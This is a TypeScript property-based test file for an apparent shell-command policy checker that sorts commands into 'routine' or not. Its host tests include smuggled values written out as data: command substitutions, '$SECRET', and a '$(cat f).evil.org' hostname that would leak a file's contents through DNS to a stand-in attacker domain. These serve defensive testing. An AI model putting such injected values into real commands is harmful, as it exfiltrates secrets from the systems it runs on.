import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkWord } from '../../../src/core/policy/check.ts';
import { type Kind, readGrammar } from '../../../src/core/policy/grammar.ts';
import { Judge } from '../../../src/core/policy/judge.ts';
import { allPacks, toolOf } from '../../../src/core/policy/packs/index.ts';
import { hole, type ShellWord } from '../../../src/core/shell/word.ts';
import { aContext, shell } from './a-context.ts';

const routine = (command: string) => shell(command).tier === 'routine';

describe('a choice of words', () => {
  it('takes its words and no other', () => {
    expect(routine('iptables -t nat -L')).toBe(true);
    fc.assert(
      fc.property(fc.stringMatching(/^[A-Za-z0-9./-]{1,12}$/), (table) => {
        fc.pre(!/^(filter|nat|mangle|raw|security)$/.test(table));
        expect(routine(`iptables -L --table=${table}`)).toBe(false);
      }),
    );
  });

  it('must be known before the command runs', () => {
    expect(routine('iptables -t "$T" -L')).toBe(false);
    expect(routine('service nginx $ACTION')).toBe(false);
    expect(routine('service nginx "$(cat f)"')).toBe(false);
  });
});

describe('a plain name', () => {
  it('holds nothing that a path, an address or a list of commands needs', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 6 }),
        fc.constantFrom('/', ';', ' ', '\n', '$x', '{', '|', '&', '`x`', '=', ','),
        fc.string({ maxLength: 6 }),
        (a, b, c) => {
          const word = `${a}${b}${c}`.replaceAll("'", '');
          fc.pre(/[/; \n${|&`=,]/.test(word));
          expect(routine(`nft list ruleset '${word}'`)).toBe(false);
          expect(routine(`service '${word}' status`)).toBe(false);
        },
      ),
    );
  });

  it('may be a pattern that meets files, since none of them can start like an option', () => {
    expect(routine('systemctl status ssh*')).toBe(true);
    expect(routine('systemctl status *')).toBe(false);
    expect(routine('systemctl status -*')).toBe(false);
  });
});

describe('a host', () => {
  it.each(['psql -l -h', 'mysql -p -e "select 1" -h', 'redis-cli ping -h', 'ping -c 1', 'host', 'whois', 'resolvectl query'])(
    '%s: is never made of what another command prints',
    (command) => {
      const put = (word: string) => (command.startsWith('redis') ? `redis-cli -h ${word} ping` : `${command} ${word}`);
      expect(routine(put(command.startsWith('psql') ? 'db.internal' : 'db.example.org'))).toBe(true);
      for (const word of ['"x$(cat f).evil.org"', '"$SECRET"', '$X', '`cat f`', '"$(< f)"', '-x', "'a b'"])
        expect(routine(put(word))).toBe(false);
    },
  );
});

describe('a package query', () => {
  it('runs no macro of a package', () => {
    expect(routine("rpm -qa --qf '%{NAME} %{VERSION}\\n'")).toBe(true);
    expect(routine("rpm -qp x.rpm --qf '%{SUMMARY:expand}'")).toBe(false);
  });
});

describe('letters of a table', () => {
  const { before, forms } = readGrammar('%before qC:path\nshow ; ab:lit c? ; lit*');

  it('read `ab:kind` as a flag and an option with a value', () => {
    expect([...(forms[0]?.options.entries() ?? [])]).toEqual([
      ['-a', { value: 'none', kind: 'any' }],
      ['-b', { value: 'required', kind: 'lit' }],
      ['-c', { value: 'attached', kind: 'any' }],
    ]);
    expect(before.get('-C')).toEqual({ value: 'required', kind: 'path' });
    expect(before.get('-q')?.value).toBe('none');
  });

  it('are letters in every pack', () => {
    for (const pack of allPacks())
      for (const program of Object.keys(pack.tools))
        for (const form of toolOf(program)?.grammar.forms ?? [])
          for (const name of form.options.keys()) expect([program, name]).toEqual([program, expect.stringMatching(/^-[^:=|]|^--[^:]+$/)]);
  });
});

describe('every kind that a table names', () => {
  const kinds = new Set<Kind>();
  for (const pack of allPacks())
    for (const program of Object.keys(pack.tools))
      for (const form of toolOf(program)?.grammar.forms ?? []) {
        for (const { kind } of form.operands) kinds.add(kind);
        for (const { kind } of form.options.values()) kinds.add(kind);
      }

  // A misspelt kind would check nothing.
  it.each([...kinds].filter((kind) => !/^(any|cmd|more|env)$/.test(kind)))('%s has something against a word that nobody knows', (kind) => {
    const judge = new Judge({ preset: 'strict', rules: [], path: [] }, aContext(), '');
    const word: ShellWord = { kind: 'open', value: hole, prefix: '', verbatim: null, span: [0, 1], splits: true };
    checkWord(judge, kind, word, { depth: 0, piped: false, texts: [], names: null, settled: true, place: () => [0, 1] });
    expect(judge.findings.length + judge.blindSpots.length).toBeGreaterThan(0);
  });
});
